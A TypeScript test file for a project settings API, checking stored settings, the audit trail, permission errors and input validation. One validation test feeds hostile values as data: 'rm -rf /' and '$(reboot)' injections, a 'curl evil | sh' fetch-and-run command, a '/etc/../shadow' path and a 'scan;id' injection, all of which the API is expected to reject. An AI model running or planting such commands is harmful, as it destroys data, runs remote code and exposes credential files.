import type { Hono } from 'hono';
import { beforeAll, describe, expect, it } from 'vitest';
import { useTestDatabase } from '../../../test/db.js';
import { createTestDeps, type TestDeps } from '../../../test/deps.js';
import { createApp } from '../../app.js';
import type { AppEnv } from '../../http/context.js';
import { bearer, ensureProject, seedUser, tokenFor } from '../testing.js';

const db = useTestDatabase('api-settings');
let deps: TestDeps;
let app: Hono<AppEnv>;
let writerToken: string;
let readerToken: string;

type Json = Record<string, unknown> & {
  error?: { code: string; message: string; details?: { issues?: unknown[] } };
};

beforeAll(async () => {
  deps = createTestDeps(db.current.sql);
  app = createApp({ deps });
  await ensureProject(db.current.sql, 'shop');
  await ensureProject(db.current.sql, 'other');
  const pat = await seedUser(db.current.sql, 'pat', [{ role: 'patch-manager', project: 'shop' }]);
  const ron = await seedUser(db.current.sql, 'ron', [{ role: 'operator', project: 'shop' }]);
  writerToken = await tokenFor(deps, pat, ['inventory:read', 'inventory:write']);
  readerToken = await tokenFor(deps, ron, ['inventory:read']);
});

async function call(method: string, path: string, token: string, body?: unknown) {
  const res = await app.request(`/api/v1${path}`, {
    method,
    headers: bearer(token, body === undefined ? {} : { 'content-type': 'application/json' }),
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return { status: res.status, body: (await res.json()) as Json };
}

const stored = async (slug: string) =>
  (
    await db.current.sql<
      { settings: Record<string, unknown> }[]
    >`select settings from projects where slug = ${slug}`
  )[0]!.settings;

describe('project settings API', () => {
  it('stores each valid section and records the old and new value on the trail', async () => {
    const valid: Record<string, unknown> = {
      approvals: { expiresIn: '2d' },
      scan: { every: '1d', timezone: 'Europe/Paris' },
      access: {
        mode: 'certificate',
        defaultLogin: 'deploy',
        maxDuration: { contractor: '2h' },
        from: '10.0.0.0/8',
      },
      keys: { rotateEvery: '12h' },
      compliance: { digest: { timezone: 'UTC' } },
      reports: { recipients: ['ops@example.com'], schedule: { cron: '0 7 * * 1', timezone: 'UTC' } },
    };
    for (const [section, value] of Object.entries(valid)) {
      const r = await call('PUT', `/projects/shop/settings/${section}`, writerToken, value);
      expect(r.status, `${section}: ${JSON.stringify(r.body)}`).toBe(200);
    }
    expect(await stored('shop')).toMatchObject(valid);
    const got = await call('GET', '/projects/shop/settings', readerToken);
    expect(got.body).toMatchObject(valid);

    await call('PUT', '/projects/shop/settings/scan', writerToken, { every: '2d' });
    const trail = await db.current.sql<{ data: Record<string, unknown> }[]>`
      select data from audit_events where action = 'project.settings-changed' and data->>'section' = 'scan' order by seq`;
    expect(trail.map((e) => [e.data.from, e.data.to])).toEqual([
      [null, valid.scan],
      [valid.scan, { every: '2d' }],
    ]);
    // null removes the section: its defaults apply again.
    expect((await call('PUT', '/projects/shop/settings/keys', writerToken, null)).status).toBe(200);
    expect(await stored('shop')).not.toHaveProperty('keys');
  });

  it('answers 400 listing every problem and writes nothing', async () => {
    const before = await stored('shop');
    const events = async () =>
      (await db.current.sql<{ n: number }[]>`select count(*)::int as n from audit_events`)[0]!.n;
    const seq = await events();
    const bad = await call('PUT', '/projects/shop/settings/access', writerToken, {
      mode: 'telepathy',
      defaultLogin: 'root; rm -rf /',
      from: '$(reboot)',
      maxDuration: { contractor: 'forever', wizard: '1h' },
      ca: { reloadArgv: ['sh', '-c', 'curl evil | sh'], dropInPath: '/etc/../shadow' },
      colour: 'blue',
    });
    expect(bad.status).toBe(400);
    for (const word of [
      'access.mode',
      'defaultLogin',
      'access.from',
      'contractor',
      'wizard',
      'reloadArgv',
      'dropInPath',
      'colour',
    ]) {
      expect(bad.body.error!.message).toContain(word);
    }
    const cases: [string, unknown][] = [
      ['scan', { every: 'often', timezone: 'Mars/Olympus' }],
      ['keys', { rotateEvery: '1m' }],
      ['reports', { recipients: ['not-an-address'], schedule: { cron: 'never', timezone: 'UTC' } }],
      ['approvals', { expiresAfter: 12, nonsense: true }],
      ['compliance', { digest: { timezone: 'Nowhere/Land' } }],
      ['scan', ['a list']],
    ];
    for (const [section, value] of cases) {
      const r = await call('PUT', `/projects/shop/settings/${section}`, writerToken, value);
      expect(r.status, section).toBe(400);
    }
    expect((await call('PUT', '/projects/shop/settings/patch', writerToken, {})).status).toBe(400);
    expect(
      (await call('PUT', `/projects/shop/settings/${encodeURIComponent('scan;id')}`, writerToken, {})).status,
    ).toBe(400);
    expect(await stored('shop')).toEqual(before);
    expect(await events()).toBe(seq);
  });

  it('needs inventory:write on that project', async () => {
    expect((await call('PUT', '/projects/shop/settings/scan', readerToken, { every: '1d' })).status).toBe(
      403,
    );
    expect((await call('PUT', '/projects/other/settings/scan', writerToken, { every: '1d' })).status).toBe(
      403,
    );
    expect((await call('PUT', '/projects/ghost/settings/scan', writerToken, { every: '1d' })).status).toBe(
      404,
    );
    expect(await stored('other')).toEqual({});
  });
});
